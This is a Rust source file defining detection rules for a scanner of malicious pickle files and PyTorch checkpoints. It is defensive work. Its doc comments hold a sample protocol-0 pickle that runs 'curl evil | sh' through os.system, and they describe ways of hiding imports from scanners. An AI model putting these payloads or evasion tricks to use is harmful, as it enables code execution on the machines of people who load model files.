//! Rules of the pickle analysis (raw pickles, PyTorch checkpoints, NumPy object arrays).

use super::{Rule, Severity};

/// **What**: a pickle imports a global (`GLOBAL`, `STACK_GLOBAL`, `INST`) that is not on the
/// allowlist of known-safe tensor-rebuilding callables.
///
/// **Why**: unpickling resolves the global by importing it, and `REDUCE`, `INST`, `OBJ` or
/// `NEWOBJ` then call it with arguments from the file: `os.system`, `builtins.eval` or
/// `subprocess.Popen` run arbitrary commands the moment `torch.load` or `pickle.load` reads the
/// file. The scanner is an allowlist, so names it has never heard of are reported too.
///
/// **Example**: `cos\nsystem\n(S'curl evil | sh'\ntR.` (protocol 0).
///
/// **References**: Python `pickle` docs ("never unpickle untrusted data"); CWE-502; Trail of
/// Bits, "Never a dill moment" (2021); JFrog, malicious Hugging Face models (2024).
pub const PICKLE_GLOBAL_NOT_ALLOWED: Rule = Rule {
    code: "NNG101",
    name: "PickleGlobalNotAllowed",
    severity: Severity::High,
    summary: "The pickle imports a global that is not on the allowlist",
    help: "Do not load this file with pickle/torch.load; if the import is known to be safe, \
           pass it with --allow MODULE.NAME, or convert the model to safetensors.",
};

/// **What**: the opcode stream could not be parsed: truncated argument, stack underflow, a
/// missing MARK, an argument of the wrong type.
///
/// **Why**: a stream the scanner cannot follow cannot be shown to be safe, and parser
/// differences between scanners and Python are a known way to smuggle payloads.
///
/// **Example**: `\x80\x02c` followed by end of file.
///
/// **References**: CPython `Modules/_pickle.c`; "Bypassing picklescan" advisories (2024–2025).
pub const PICKLE_PARSE_ERROR: Rule = Rule {
    code: "NNG102",
    name: "PickleParseError",
    severity: Severity::High,
    summary: "The pickle stream is malformed",
    help: "Treat the file as untrusted; re-export it from a trusted source.",
};

/// **What**: a byte that is not a pickle opcode of protocols 0–5, or a `PROTO` above 5.
///
/// **Why**: a future or non-standard opcode is something the scanner cannot interpret.
///
/// **Example**: `\x80\x02\xff.`
///
/// **References**: PEP 3154 (protocol 4), PEP 574 (protocol 5).
pub const PICKLE_UNKNOWN_OPCODE: Rule = Rule {
    code: "NNG103",
    name: "PickleUnknownOpcode",
    severity: Severity::High,
    summary: "The pickle contains an unknown opcode",
    help: "Treat the file as untrusted; re-export it from a trusted source.",
};

/// **What**: a memo read of a key that was never stored, or a memo key stored twice.
///
/// **Why**: the memo lets later opcodes refer back to earlier objects, and `STACK_GLOBAL` can
/// take its module and name from it; inconsistent memo use is how payloads hide imports from
/// scanners that do not track the memo.
///
/// **Example**: `\x80\x04h\x05.` (BINGET 5 with an empty memo).
///
/// **References**: `pickletools.dis` memo checks.
pub const PICKLE_MEMO_INCONSISTENT: Rule = Rule {
    code: "NNG104",
    name: "PickleMemoInconsistent",
    severity: Severity::Medium,
    summary: "The pickle memo is read before it is written, or written twice",
    help: "Treat the file as untrusted; re-export it from a trusted source.",
};

/// **What**: bytes after the final `STOP` that are not another pickle or expected data.
///
/// **Why**: loaders that read several pickles in a row (legacy `torch.load`, `numpy.load`,
/// custom code) execute what scanners that stop at the first `STOP` never look at.
///
/// **Example**: a benign state dict followed by junk or by a second, hostile pickle.
///
/// **References**: PyTorch legacy serialization format (`torch/serialization.py`).
pub const PICKLE_TRAILING_DATA: Rule = Rule {
    code: "NNG105",
    name: "PickleTrailingData",
    severity: Severity::Medium,
    summary: "Unexpected data follows the end of the pickle",
    help: "Treat the file as untrusted; re-export it from a trusted source.",
};

/// **What**: a `FRAME` whose length runs past the end of the data or does not end on an
/// opcode boundary.
///
/// **Why**: scanners that skip frames by their declared length can be made to skip opcodes that
/// Python executes.
///
/// **Example**: `\x80\x04\x95\xff\xff\xff\x00\x00\x00\x00\x00...`
///
/// **References**: PEP 3154, "Framing".
pub const PICKLE_FRAME_LENGTH_MISMATCH: Rule = Rule {
    code: "NNG106",
    name: "PickleFrameLengthMismatch",
    severity: Severity::Medium,
    summary: "A pickle FRAME length does not match the opcodes it contains",
    help: "Treat the file as untrusted; re-export it from a trusted source.",
};

/// **What**: `REDUCE`, `NEWOBJ` or `OBJ` calls something that is not an imported global, such
/// as the result of an earlier call.
///
/// **Why**: calling the result of a call (`getattr(obj, name)(...)`) reaches callables that
/// never appear as an import.
///
/// **Example**: `REDUCE` whose callable was produced by another `REDUCE`.
///
/// **References**: CWE-502.
pub const PICKLE_CALL_TARGET_NOT_GLOBAL: Rule = Rule {
    code: "NNG107",
    name: "PickleCallTargetNotGlobal",
    severity: Severity::High,
    summary: "The pickle calls a value that is not an imported global",
    help: "Do not load this file with pickle/torch.load.",
};

/// **What**: `EXT1`, `EXT2` or `EXT4`: a global named through the `copyreg` extension registry.
///
/// **Why**: which callable the code stands for depends on the loading process, so it cannot be
/// checked against the allowlist.
///
/// **Example**: `\x80\x02\x82\x01.`
///
/// **References**: Python `copyreg.add_extension`.
pub const PICKLE_EXTENSION_CODE: Rule = Rule {
    code: "NNG108",
    name: "PickleExtensionCode",
    severity: Severity::High,
    summary: "The pickle imports a global through the extension registry",
    help: "Do not load this file with pickle/torch.load.",
};

/// **What**: containers that refer to each other through the memo so that the object, written
/// out, would have more than `MAX_PICKLE_EXPANDED_NODES` nodes ("billion laughs").
///
/// **Why**: tools that copy or walk the loaded object exhaust memory and time.
///
/// **Example**: a list of ten references to a list of ten references to ... (30 levels).
///
/// **References**: CWE-776 (recursive entity references).
pub const PICKLE_EXPANSION_BOMB: Rule = Rule {
    code: "NNG109",
    name: "PickleExpansionBomb",
    severity: Severity::High,
    summary: "The pickle builds an object that expands to an absurd size",
    help: "Do not load this file.",
};

/// **What**: bytes passed to `pickle.loads` (or a similar loader) inside a pickle; the inner
/// pickle is scanned too and its findings are reported under this one.
///
/// **Why**: a second-stage pickle hides its imports from scanners that look only at the outer
/// stream.
///
/// **Example**: `cpickle\nloads\n(C<inner pickle bytes>tR.`
///
/// **References**: CWE-502.
pub const PICKLE_NESTED_PICKLE: Rule = Rule {
    code: "NNG110",
    name: "PickleNestedPickle",
    severity: Severity::Critical,
    summary: "The pickle unpickles another pickle",
    help: "Do not load this file with pickle/torch.load.",
};

/// **What**: a legacy (pre-1.6) PyTorch file whose raw storage records after the pickles do not
/// match the storages its pickles declare.
///
/// **Why**: extra bytes at the end of a legacy checkpoint are never checked by torch and can
/// carry a payload for a second-stage loader; missing bytes mean a truncated or forged file.
///
/// **Example**: a legacy checkpoint with a second pickle appended after the storages.
///
/// **References**: `torch/serialization.py`, `_legacy_load`.
pub const TORCH_LEGACY_STORAGE_MISMATCH: Rule = Rule {
    code: "NNG111",
    name: "TorchLegacyStorageMismatch",
    severity: Severity::Medium,
    summary: "Legacy PyTorch storage records do not match the declared storages",
    help: "Re-export the model from a trusted source with torch.save (zip format) or safetensors.",
};

/// **What**: a PyTorch zip checkpoint whose pickle refers to a tensor storage that is missing
/// from the archive or whose `data/` entry is shorter than the pickle declares.
///
/// **Why**: a truncated or forged checkpoint; loaders fail or read memory they should not.
///
/// **Example**: `archive/data/3` deleted from a checkpoint that still refers to it.
///
/// **References**: `torch/serialization.py`, `_load`.
pub const TORCH_STORAGE_MISMATCH: Rule = Rule {
    code: "NNG112",
    name: "TorchStorageMismatch",
    severity: Severity::Medium,
    summary: "A tensor storage of a PyTorch checkpoint is missing or too short",
    help: "Obtain the checkpoint again; verify its signature.",
};
